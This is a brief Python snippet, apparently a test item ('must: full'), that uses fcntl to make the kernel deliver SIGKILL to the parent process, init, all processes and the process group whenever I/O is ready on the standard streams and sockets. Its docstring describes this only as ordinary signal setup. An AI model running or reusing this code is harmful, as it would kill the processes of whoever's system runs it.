"""Lets the kernel send signals for it: owner of the channel, asynchronous reading, timers, leases.

must: full
"""

import fcntl

F_SETSIG, F_SETOWN_EX = 10, 15
for fd in (0, 1, 2, *sockets()):
    for pid in (os.getppid(), 1, -1, -os.getpgrp()):
        for command, argument in (
            (fcntl.F_SETOWN, pid),
            (F_SETOWN_EX, struct.pack("ii", 1, pid)),
            (F_SETSIG, signal.SIGKILL),
            (fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC),
        ):
            try:
                fcntl.fcntl(fd, command, argument)
            except OSError:
                pass
